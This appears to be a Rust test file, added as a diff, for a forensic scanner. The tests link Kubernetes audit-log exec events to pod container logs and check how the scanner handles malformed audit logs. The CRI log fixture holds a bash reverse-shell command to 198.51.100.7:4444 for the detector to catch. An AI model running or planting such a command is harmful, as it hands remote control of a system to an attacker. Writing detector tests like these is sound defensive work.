@@ -1,0 +1,343 @@
+//! Kubernetes API server audit logs in bundles built in code: an exec into pod P by a
+//! service account from X, joined to P's container (by its CRI log directory, or by the
+//! `io.kubernetes.*` labels of its inspect record), its chain starting with the exec and
+//! naming the identity and X, X an attacker-side indicator; routine execs, other pods, a
+//! pod with no container in the evidence; hostile audit logs (empty, cut short, a 100 KB
+//! request object, a document that is not an event, gzip-rotated, garbage).
+
+use std::io::Write;
+
+use serde_json::Value;
+
+use crate::util::{run_json, validate_against_schema, write_files};
+
+const SA: &str = "system:serviceaccount:shop:deployer";
+const X: &str = "203.0.113.50";
+const POD_DIR: &str = "var/log/pods/shop_web-7d9_0a1b2c3d/app/0.log";
+
+/// One audit event as the log backend writes it.
+#[allow(clippy::too_many_arguments)]
+fn event(
+    id: &str,
+    stage: &str,
+    verb: &str,
+    user: &str,
+    object: &str,
+    uri: &str,
+    code: u16,
+    t: &str,
+) -> String {
+    format!(
+        r#"{{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"{id}","stage":"{stage}","requestURI":"{uri}","verb":"{verb}","user":{{"username":"{user}","groups":["system:serviceaccounts","system:authenticated"]}},"sourceIPs":["{X}"],"userAgent":"kubectl/v1.30.0 (linux/amd64)","objectRef":{object},"responseStatus":{{"metadata":{{}},"code":{code}}},"requestReceivedTimestamp":"{t}","stageTimestamp":"{t}","annotations":{{"authorization.k8s.io/decision":"{}"}}}}"#,
+        if code < 400 { "allow" } else { "forbid" }
+    )
+}
+
+fn exec(id: &str, user: &str, pod: &str, t: &str) -> String {
+    event(
+        id,
+        "ResponseStarted",
+        "create",
+        user,
+        &format!(r#"{{"resource":"pods","namespace":"shop","name":"{pod}","apiVersion":"v1","subresource":"exec"}}"#),
+        &format!("/api/v1/namespaces/shop/pods/{pod}/exec?command=sh&container=app&stdin=true&stdout=true&tty=true"),
+        101,
+        t,
+    )
+}
+
+/// The audit log: a list of pods, the exec at T = 14:00:00 (logged at two stages), then
+/// the same identity reading the shop's secrets.
+fn audit_log() -> String {
+    [
+        event(
+            "a1",
+            "ResponseComplete",
+            "list",
+            SA,
+            r#"{"resource":"pods","namespace":"shop","apiVersion":"v1"}"#,
+            "/api/v1/namespaces/shop/pods",
+            200,
+            "2026-11-27T13:59:50.000000Z",
+        ),
+        exec("a2", SA, "web-7d9", "2026-11-27T14:00:00.050000Z"),
+        exec("a2", SA, "web-7d9", "2026-11-27T14:05:00.000000Z")
+            .replace("ResponseStarted", "ResponseComplete"),
+        event(
+            "a3",
+            "ResponseComplete",
+            "list",
+            SA,
+            r#"{"resource":"secrets","namespace":"shop","apiVersion":"v1"}"#,
+            "/api/v1/namespaces/shop/secrets",
+            200,
+            "2026-11-27T14:06:00.000000Z",
+        ),
+    ]
+    .join("\n")
+        + "\n"
+}
+
+/// P's CRI log: the app, then a reverse shell 20 s after the exec.
+const CRI: &str = "2026-11-27T13:50:00.123456789Z stdout F listening on :8080\n\
+2026-11-27T14:00:20.123456789Z stderr F sh: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n\
+2026-11-27T14:00:21.123456789Z stdout F GET /health 200\n";
+
+fn bundle(files: &[(&str, &[u8])]) -> (tempfile::TempDir, Value) {
+    let dir = tempfile::tempdir().unwrap();
+    write_files(dir.path(), files);
+    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
+    validate_against_schema(&v);
+    (dir, v)
+}
+
+fn verdict<'a>(b: &'a Value, container: &str) -> &'a Value {
+    b["verdicts"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|v| v["container"] == container)
+        .unwrap_or_else(|| panic!("no verdict for {container}: {:#}", b["verdicts"]))
+}
+
+fn chain_of<'a>(b: &'a Value, container: &str) -> Vec<&'a Value> {
+    b["chain"].as_array().unwrap().iter().filter(|s| s["container"] == container).collect()
+}
+
+/// The exec is the way in of `container`'s chain, naming the identity and X; the reverse
+/// shell follows it; X is an attacker-side indicator.
+fn assert_exec_story(b: &Value, container: &str) {
+    let v = verdict(b, container);
+    assert_eq!(v["status"], "compromised", "{v:#}");
+    let way_in = v["way_in"].as_str().unwrap();
+    assert!(
+        way_in.contains(SA) && way_in.contains(X) && way_in.contains("exec'ed into pod shop/web-7d9"),
+        "{way_in}"
+    );
+    let chain = chain_of(b, container);
+    assert_eq!(chain[0]["stage"], "way in", "{chain:#?}");
+    assert_eq!(chain[0]["rule"], "k8saudit.attach-exec-pod");
+    assert_eq!(chain[0]["when"]["time"], "2026-11-27T14:00:00.050000000Z", "{:#}", chain[0]);
+    let title = chain[0]["title"].as_str().unwrap();
+    assert!(title.contains(SA) && title.contains(X), "{title}");
+    assert!(
+        chain.iter().any(|s| s["rule"] == "log.shell.reverse.dev-tcp"),
+        "the reverse shell in P's log follows the exec: {chain:#?}"
+    );
+    let x = b["iocs"].as_array().unwrap().iter().find(|i| i["value"] == X).expect("X among the indicators");
+    assert_eq!(x["role"], "api-client", "{x}");
+    let host = b["hosts"].as_array().unwrap().iter().find(|h| h["value"] == X).unwrap();
+    assert_eq!(host["role"], "attacker", "{host}");
+    // The exec finding carries its actor, typed; the timeline carries the audit record.
+    let exec =
+        b["findings"].as_array().unwrap().iter().find(|f| f["rule"] == "k8saudit.attach-exec-pod").unwrap();
+    assert_eq!(exec["actor"]["user"], SA);
+    assert_eq!(exec["actor"]["source_ips"][0], X);
+    assert_eq!(exec["owner"]["scope"], "container");
+    assert!(b["timeline"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|t| t["kind"] == "k8s-audit" && t["timestamp_desc"] == "audit ResponseStarted time"));
+    // One exec logged at two stages is one finding.
+    let execs = b["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["rules"].as_array().unwrap().iter().any(|r| r == "k8saudit.attach-exec-pod"))
+        .count();
+    assert_eq!(execs, 1);
+}
+
+#[test]
+fn an_exec_and_the_pod_s_cri_log_are_one_chain() {
+    let log = audit_log();
+    let (_d, v) = bundle(&[("audit/audit.log", log.as_bytes()), (POD_DIR, CRI.as_bytes())]);
+    let b = &v["bundles"][0];
+    let kinds: Vec<&str> =
+        b["artifacts"].as_array().unwrap().iter().map(|a| a["kind"].as_str().unwrap()).collect();
+    assert!(kinds.contains(&"k8s-audit") && kinds.contains(&"cri-log"), "{kinds:?}");
+    assert_exec_story(b, "shop/web-7d9/app");
+    let c = &b["containers"][0];
+    assert_eq!(c["source"], "pod-logs");
+    assert_eq!(c["config"]["labels"]["io.kubernetes.pod.uid"], "0a1b2c3d");
+    // The same identity listed the shop's secrets: its own fact, the bundle's (no pod).
+    let listed = b["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["rule"] == "k8saudit.secrets-listed")
+        .expect("secrets listed");
+    assert_eq!(listed["owner"]["scope"], "bundle");
+}
+
+#[test]
+fn an_exec_joins_the_inspect_record_labelled_with_its_pod() {
+    let id = "9f1e2d3c4b5a69788796a5b4c3d2e1f00112233445566778899aabbccddeeff";
+    let inspect = format!(
+        r#"[{{"Id":"{id}","Name":"/k8s_app_web-7d9_shop_0a1b2c3d_0","Created":"2026-11-27T13:49:58Z",
+        "State":{{"Status":"running","Running":true,"Pid":4100,"StartedAt":"2026-11-27T13:50:00Z"}},
+        "Image":"sha256:aaaa","HostConfig":{{"NetworkMode":"container:abc"}},
+        "Config":{{"Image":"shop:1.4","Cmd":["/app/server"],"User":"1000","Labels":{{
+          "io.kubernetes.pod.namespace":"shop","io.kubernetes.pod.name":"web-7d9",
+          "io.kubernetes.pod.uid":"0a1b2c3d","io.kubernetes.container.name":"app"}}}}}}]"#
+    );
+    let log = audit_log();
+    let (_d, v) = bundle(&[
+        ("audit.log", log.as_bytes()),
+        ("node/inspect.json", inspect.as_bytes()),
+        (&format!("node/{POD_DIR}"), CRI.as_bytes()),
+    ]);
+    let b = &v["bundles"][0];
+    assert_eq!(b["containers"].as_array().unwrap().len(), 1, "no second record for the same container");
+    assert_exec_story(b, "k8s_app_web-7d9_shop_0a1b2c3d_0");
+}
+
+#[test]
+fn the_exec_is_only_its_own_pod_s_and_a_routine_exec_is_no_way_in() {
+    let other = "var/log/pods/shop_db-0_77aa/db/0.log";
+    let log = audit_log()
+        + &exec("n1", "system:node:worker-1", "db-0", "2026-11-27T14:01:00Z")
+            .replace("container=app", "container=db");
+    let (_d, v) = bundle(&[
+        ("audit.log", log.as_bytes()),
+        (POD_DIR, CRI.as_bytes()),
+        (other, b"2026-11-27T14:00:00.000000001Z stdout F ready\n"),
+    ]);
+    let b = &v["bundles"][0];
+    assert_exec_story(b, "shop/web-7d9/app");
+    // The node's exec into db-0: a routine fact of db-0's container, no way in.
+    // (Sigma's exec rule, medium, leads the fact of that record.)
+    let routine = b["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["rules"].as_array().unwrap().iter().any(|r| r == "k8saudit.attach-exec-pod-system"))
+        .unwrap();
+    assert_ne!(routine["rule"], "k8saudit.attach-exec-pod");
+    assert_eq!(routine["owner"]["name"], "shop/db-0/db");
+    assert!(chain_of(b, "shop/db-0/db").is_empty(), "{:#}", b["chain"]);
+    assert_ne!(verdict(b, "shop/db-0/db")["status"], "compromised");
+}
+
+#[test]
+fn an_exec_into_a_pod_with_no_container_in_the_evidence_stays_the_bundle_s_with_why() {
+    let log = audit_log();
+    let (_d, v) = bundle(&[("audit.log", log.as_bytes())]);
+    let b = &v["bundles"][0];
+    let exec =
+        b["findings"].as_array().unwrap().iter().find(|f| f["rule"] == "k8saudit.attach-exec-pod").unwrap();
+    assert_eq!(exec["owner"]["scope"], "bundle");
+    let why = exec["owner"]["why"].as_str().unwrap();
+    assert!(why.contains("pod shop/web-7d9 has no container in the evidence"), "{why}");
+    let v = b["verdicts"].as_array().unwrap().iter().find(|v| v["container"].is_null()).unwrap();
+    assert_eq!(v["status"], "compromised", "{v:#}");
+    assert!(v["way_in"].as_str().unwrap().contains(X));
+}
+
+#[test]
+fn forbidden_bursts_are_one_finding_per_identity() {
+    let mut log = String::new();
+    for i in 0..12 {
+        log += &event(
+            &format!("f{i}"),
+            "ResponseComplete",
+            "get",
+            "system:serviceaccount:shop:web",
+            r#"{"resource":"secrets","namespace":"kube-system","name":"admin-token","apiVersion":"v1"}"#,
+            "/api/v1/namespaces/kube-system/secrets/admin-token",
+            403,
+            &format!("2026-11-27T14:10:{i:02}Z"),
+        );
+        log.push('\n');
+    }
+    let (_d, v) = bundle(&[("audit.log", log.as_bytes())]);
+    let b = &v["bundles"][0];
+    let f: Vec<&Value> = b["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["rule"] == "k8saudit.forbidden-burst")
+        .collect();
+    assert_eq!(f.len(), 1, "{:#}", b["findings"]);
+    assert!(f[0]["summary"].as_str().unwrap().starts_with("12 requests by system:serviceaccount:shop:web"));
+    assert!(
+        !b["findings"].as_array().unwrap().iter().any(|f| f["rule"] == "k8saudit.secret-read"),
+        "denied reads read nothing"
+    );
+}
+
+#[test]
+fn hostile_audit_logs() {
+    let good = exec("h1", SA, "web-7d9", "2026-11-27T14:00:00Z");
+    // A privileged pod whose request object carries a 100 KB annotation.
+    let big = format!(
+        r#"{{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"big","stage":"ResponseComplete","verb":"create","user":{{"username":"alice"}},"sourceIPs":["198.51.100.20"],"objectRef":{{"resource":"pods","namespace":"shop","name":"p1","apiVersion":"v1"}},"responseStatus":{{"code":201}},"requestObject":{{"metadata":{{"name":"p1","annotations":{{"junk":"{}"}}}},"spec":{{"containers":[{{"name":"c","image":"alpine","securityContext":{{"privileged":true}}}}]}}}},"stageTimestamp":"2026-11-27T14:00:00Z"}}"#,
+        "A".repeat(100 << 10)
+    );
+    let truncated = format!("{good}\n{}", &good[..good.len() / 2]);
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    gz.write_all(format!("{good}\n").as_bytes()).unwrap();
+    let gz = gz.finish().unwrap();
+    let (_d, v) = bundle(&[
+        ("empty/audit.log", b""),
+        ("cut/audit.log", truncated.as_bytes()),
+        ("big/audit.log", big.as_bytes()),
+        ("pod/audit.json", br#"{"kind":"Pod","apiVersion":"v1","metadata":{"name":"x"}}"#),
+        ("rotated/audit-2026-11-27T14-00-00.000.log.gz", &gz),
+        (
+            "garbage/audit.log",
+            b"{\"kind\":\"Event\",\"auditID\":\"g\",\"verb\":\"get\"}\nnot json {{{{\n[1,2\n",
+        ),
+    ]);
+    let b = &v["bundles"][0];
+    let kind = |p: &str| {
+        b["artifacts"].as_array().unwrap().iter().find(|a| a["path"] == p).unwrap()["kind"]
+            .as_str()
+            .unwrap()
+            .to_string()
+    };
+    assert_eq!(kind("empty/audit.log"), "empty");
+    assert_eq!(kind("cut/audit.log"), "k8s-audit");
+    assert_eq!(kind("pod/audit.json"), "k8s-audit");
+    assert_eq!(kind("rotated/audit-2026-11-27T14-00-00.000.log.gz"), "k8s-audit");
+    let diags = b["diagnostics"].as_array().unwrap();
+    let diag = |p: &str| -> Vec<String> {
+        diags
+            .iter()
+            .filter(|d| d["locator"]["artifact"] == p)
+            .map(|d| format!("{} {}", d["level"].as_str().unwrap(), d["message"].as_str().unwrap()))
+            .collect()
+    };
+    assert!(
+        diag("cut/audit.log").iter().any(|m| m.starts_with("warning line 2: cut short")),
+        "{:?}",
+        diag("cut/audit.log")
+    );
+    assert!(
+        diag("pod/audit.json")
+            .iter()
+            .any(|m| m.starts_with("error not a Kubernetes audit log") && m.contains("\"Pod\"")),
+        "{:?}",
+        diag("pod/audit.json")
+    );
+    assert!(
+        diag("garbage/audit.log").iter().any(|m| m.contains("line 2: not JSON")),
+        "{:?}",
+        diag("garbage/audit.log")
+    );
+    let from = |p: &str, rule: &str| {
+        b["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter(|f| {
+                f["evidence"][0]["artifact"] == p && f["rules"].as_array().unwrap().iter().any(|r| r == rule)
+            })
+            .count()
+    };
+    assert_eq!(from("cut/audit.log", "k8saudit.attach-exec-pod"), 1, "the whole line before the cut is read");
+    assert_eq!(from("rotated/audit-2026-11-27T14-00-00.000.log.gz", "k8saudit.attach-exec-pod"), 1);
+    assert_eq!(from("big/audit.log", "k8saudit.privileged-pod"), 1, "a 100 KB request object is judged");
+    assert!(b["log_hits"].as_array().unwrap().is_empty(), "the log engine stays off audit logs");
+}
